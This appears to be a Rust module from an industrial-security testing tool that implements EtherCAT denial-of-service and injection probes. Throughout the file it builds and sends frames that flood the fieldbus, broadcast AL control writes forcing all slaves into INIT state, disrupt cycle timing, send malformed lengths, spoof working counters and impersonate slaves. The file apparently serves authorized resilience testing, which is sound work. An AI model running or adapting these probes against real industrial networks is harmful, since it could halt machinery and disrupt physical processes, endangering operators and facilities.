//! Fixed EtherCAT probes
//!
//! Every probe the DoS and injection modules run is one variant of
//! [`TestCase`]. A probe builds its frames, sends them through the
//! [`AttackContext`], logs what it did and reports how many sends went out.

use kraken_core::{AttackContext, Result};
use kraken_packet::ethercat::{pack_header, EcatCommand, EcatDatagram, ECAT_FRAME_TYPE};
use std::time::{Duration, Instant};
use tracing::debug;

/// AL control register
pub const AL_CONTROL_OFFSET: u16 = 0x0120;

/// AL control value requesting the INIT state
pub const AL_STATE_INIT: [u8; 2] = [0x01, 0x00];

/// Station address used when the target names no slave
pub const DEFAULT_STATION_ADDRESS: u16 = 0x1000;

/// Default frame flood duration
pub const DEFAULT_FLOOD: Duration = Duration::from_millis(500);

/// Payload length of the large-frame probe
pub const LARGE_PAYLOAD_LEN: usize = 1400;

const STATE_CHANGE_SENDS: u32 = 50;
const TIMING_BURSTS: u32 = 10;
const TIMING_BURST_LEN: u32 = 20;
const TIMING_PAUSE: Duration = Duration::from_millis(5);
const LARGE_FRAME_SENDS: u32 = 20;
const NOP_FLOOD_SENDS: u32 = 100;
const SPOOFED_WKC: u16 = 99;
const INVALID_DECLARED_LEN: u16 = 100;

const FAST_SEND: Duration = Duration::from_millis(1);
const SHORT_SEND: Duration = Duration::from_millis(10);
const LARGE_SEND: Duration = Duration::from_millis(50);
const SINGLE_SEND: Duration = Duration::from_millis(100);

/// Send counts of one probe
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct TestOutcome {
    pub attempted: u64,
    pub sent: u64,
}

impl TestOutcome {
    /// At least one frame left with a positive byte count
    pub fn passed(&self) -> bool {
        self.sent > 0
    }

    fn record(&mut self, delivered: bool) {
        self.attempted += 1;
        if delivered {
            self.sent += 1;
        }
    }
}

/// The fixed probes
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TestCase {
    /// Broadcast reads as fast as possible for the given duration
    FrameFlood(Duration),
    /// Broadcast writes of INIT to the AL control register
    StateChange,
    /// Bursts of broadcast reads separated by short pauses
    TimingDisruption,
    /// Broadcast reads carrying 1400 bytes of payload
    LargeFrames,
    /// Broadcast read with a working counter no slave produced
    SpoofedWkc,
    /// Frame whose header length disagrees with its size
    InvalidLength,
    /// Configured-address read answered as if by a slave
    SlaveImpersonation,
    /// Burst of empty NOP datagrams
    NopFlood,
}

impl TestCase {
    /// DoS probes in run order
    pub fn dos_suite(flood: Duration) -> [TestCase; 4] {
        [
            TestCase::FrameFlood(flood),
            TestCase::StateChange,
            TestCase::TimingDisruption,
            TestCase::LargeFrames,
        ]
    }

    /// Injection probes in run order
    pub const INJECTION_SUITE: [TestCase; 4] = [
        TestCase::SpoofedWkc,
        TestCase::InvalidLength,
        TestCase::SlaveImpersonation,
        TestCase::NopFlood,
    ];

    /// Short identifier
    pub fn name(&self) -> &'static str {
        match self {
            TestCase::FrameFlood(_) => "frame_flood",
            TestCase::StateChange => "state_change",
            TestCase::TimingDisruption => "timing_disruption",
            TestCase::LargeFrames => "large_frames",
            TestCase::SpoofedWkc => "spoofed_wkc",
            TestCase::InvalidLength => "invalid_length",
            TestCase::SlaveImpersonation => "slave_impersonation",
            TestCase::NopFlood => "nop_flood",
        }
    }

    /// Heading used in the run log
    pub fn title(&self) -> String {
        match self {
            TestCase::FrameFlood(d) => format!("Frame flood ({}ms)", d.as_millis()),
            TestCase::StateChange => "State change attack".to_string(),
            TestCase::TimingDisruption => "Timing disruption".to_string(),
            TestCase::LargeFrames => "Large frame attack".to_string(),
            other => other.name().to_string(),
        }
    }

    pub fn description(&self) -> &'static str {
        match self {
            TestCase::FrameFlood(_) => "Flood the segment with broadcast reads",
            TestCase::StateChange => "Broadcast AL control writes requesting INIT",
            TestCase::TimingDisruption => "Burst-pause pattern to disturb cycle timing",
            TestCase::LargeFrames => "Broadcast reads with oversized payloads",
            TestCase::SpoofedWkc => "Inject frame with spoofed working counter",
            TestCase::InvalidLength => "Inject frame with invalid length field",
            TestCase::SlaveImpersonation => "Inject frame impersonating slave response",
            TestCase::NopFlood => "Flood with NOP frames",
        }
    }

    /// Run the probe.
    ///
    /// Loops stop early once the context's overall deadline has passed.
    /// Errors only come from building the probe's fixed frames.
    pub fn run(&self, ctx: &mut AttackContext<'_>) -> Result<TestOutcome> {
        debug!(module = ctx.module_id(), test = self.name(), "Running probe");
        match self {
            TestCase::FrameFlood(duration) => frame_flood(ctx, *duration),
            TestCase::StateChange => state_change(ctx),
            TestCase::TimingDisruption => timing_disruption(ctx),
            TestCase::LargeFrames => large_frames(ctx),
            TestCase::SpoofedWkc => spoofed_wkc(ctx),
            TestCase::InvalidLength => invalid_length(ctx),
            TestCase::SlaveImpersonation => slave_impersonation(ctx),
            TestCase::NopFlood => nop_flood(ctx),
        }
    }
}

fn broadcast_read() -> Result<Vec<u8>> {
    EcatDatagram::new(EcatCommand::Brd)
        .with_data(vec![0x00, 0x00])
        .to_bytes()
}

fn repeat_send(
    ctx: &mut AttackContext<'_>,
    frame: &[u8],
    count: u32,
    timeout: Duration,
    outcome: &mut TestOutcome,
) {
    for _ in 0..count {
        if ctx.is_expired() {
            break;
        }
        let delivered = ctx.send(frame, timeout);
        outcome.record(delivered);
    }
}

fn frame_flood(ctx: &mut AttackContext<'_>, duration: Duration) -> Result<TestOutcome> {
    let frame = broadcast_read()?;
    let mut outcome = TestOutcome::default();

    let started = Instant::now();
    let deadline = ctx.deadline_for(duration);
    while Instant::now() < deadline {
        let delivered = ctx.send(&frame, FAST_SEND);
        outcome.record(delivered);
    }

    let elapsed_ms = started.elapsed().as_millis() as u64;
    let fps = if elapsed_ms > 0 {
        outcome.sent as f64 * 1000.0 / elapsed_ms as f64
    } else {
        0.0
    };
    ctx.log(format!(
        "  Flood: sent {} frames in {}ms ({:.0} fps)",
        outcome.sent, elapsed_ms, fps
    ));

    Ok(outcome)
}

fn state_change(ctx: &mut AttackContext<'_>) -> Result<TestOutcome> {
    let frame = EcatDatagram::new(EcatCommand::Bwr)
        .with_offset(AL_CONTROL_OFFSET)
        .with_data(AL_STATE_INIT.to_vec())
        .to_bytes()?;
    let mut outcome = TestOutcome::default();

    repeat_send(ctx, &frame, STATE_CHANGE_SENDS, SHORT_SEND, &mut outcome);

    ctx.log(format!(
        "  State attack: sent {} BWR(AL_CTRL=INIT) frames",
        outcome.sent
    ));
    Ok(outcome)
}

fn timing_disruption(ctx: &mut AttackContext<'_>) -> Result<TestOutcome> {
    let frame = broadcast_read()?;
    let mut outcome = TestOutcome::default();

    for _ in 0..TIMING_BURSTS {
        if ctx.is_expired() {
            break;
        }
        repeat_send(ctx, &frame, TIMING_BURST_LEN, FAST_SEND, &mut outcome);
        if ctx.is_expired() {
            break;
        }
        ctx.pause(TIMING_PAUSE);
    }

    ctx.log(format!(
        "  Timing disruption: sent {} frames in burst-pause pattern",
        outcome.sent
    ));
    Ok(outcome)
}

fn large_frames(ctx: &mut AttackContext<'_>) -> Result<TestOutcome> {
    let frame = EcatDatagram::new(EcatCommand::Brd)
        .with_data(vec![0xAA; LARGE_PAYLOAD_LEN])
        .to_bytes()?;
    let mut outcome = TestOutcome::default();

    repeat_send(ctx, &frame, LARGE_FRAME_SENDS, LARGE_SEND, &mut outcome);

    ctx.log(format!(
        "  Large frames: sent {} frames of {} bytes",
        outcome.sent,
        frame.len()
    ));
    Ok(outcome)
}

fn spoofed_wkc(ctx: &mut AttackContext<'_>) -> Result<TestOutcome> {
    let frame = EcatDatagram::new(EcatCommand::Brd)
        .with_data(vec![0x00, 0x00])
        .with_working_counter(SPOOFED_WKC)
        .to_bytes()?;
    let mut outcome = TestOutcome::default();

    outcome.record(ctx.send(&frame, SINGLE_SEND));
    if outcome.passed() {
        ctx.log("  Sent BRD with spoofed WKC=99");
    } else {
        ctx.log("  Failed to send spoofed WKC frame");
    }
    Ok(outcome)
}

/// 16-byte BRD whose header declares 100 bytes and whose data length says 2
fn invalid_length_frame() -> [u8; 16] {
    let mut frame = [0u8; 16];
    frame[0..2].copy_from_slice(&pack_header(ECAT_FRAME_TYPE, INVALID_DECLARED_LEN));
    frame[2] = EcatCommand::Brd.code();
    frame[3] = 0x01;
    frame[8] = 2;
    frame
}

fn invalid_length(ctx: &mut AttackContext<'_>) -> Result<TestOutcome> {
    let frame = invalid_length_frame();
    let mut outcome = TestOutcome::default();

    outcome.record(ctx.send(&frame, SINGLE_SEND));
    if outcome.passed() {
        ctx.log("  Sent frame with mismatched length field");
    } else {
        ctx.log("  Failed to send invalid length frame");
    }
    Ok(outcome)
}

fn slave_impersonation(ctx: &mut AttackContext<'_>) -> Result<TestOutcome> {
    let station = ctx.target().first_slave().unwrap_or(DEFAULT_STATION_ADDRESS);
    let frame = EcatDatagram::new(EcatCommand::Fprd)
        .with_address(station)
        .with_data(vec![0x12, 0x34])
        .with_working_counter(1)
        .to_bytes()?;
    let mut outcome = TestOutcome::default();

    outcome.record(ctx.send(&frame, SINGLE_SEND));
    if outcome.passed() {
        ctx.log(format!(
            "  Sent FPRD response impersonating slave 0x{:04X}",
            station
        ));
    } else {
        ctx.log("  Failed to send impersonation frame");
    }
    Ok(outcome)
}

fn nop_flood(ctx: &mut AttackContext<'_>) -> Result<TestOutcome> {
    let frame = EcatDatagram::new(EcatCommand::Nop).to_bytes()?;
    let mut outcome = TestOutcome::default();

    repeat_send(ctx, &frame, NOP_FLOOD_SENDS, SHORT_SEND, &mut outcome);

    ctx.log(format!("  Sent {} NOP frames", outcome.sent));
    Ok(outcome)
}
